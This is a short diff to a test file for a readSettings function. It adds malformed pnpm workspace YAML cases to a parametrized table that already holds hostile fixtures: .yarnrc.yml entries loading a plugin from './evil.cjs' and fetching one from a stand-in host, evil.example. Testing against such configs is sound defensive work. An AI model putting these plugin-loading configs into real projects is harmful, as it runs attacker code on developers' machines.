@@ -40,6 +40,8 @@ describe('readSettings', () => {
 
   it.each([
     ['pnpm', { '.pnpmfile.cjs': '' }],
+    ['pnpm', { 'pnpm-workspace.yaml': 'packages: [a' }],
+    ['pnpm', { 'pnpm-workspace.yaml': '- a' }],
     ['yarn-berry', { '.yarnrc.yml': 'plugins: [./evil.cjs]' }],
     ['yarn-berry', { '.yarnrc.yml': 'plugins: [{path: ./evil.cjs, spec: "https://evil.example/x.js"}]' }],
     ['yarn-berry', { '.yarnrc.yml': 'a: &a [1]\nb: *a' }],
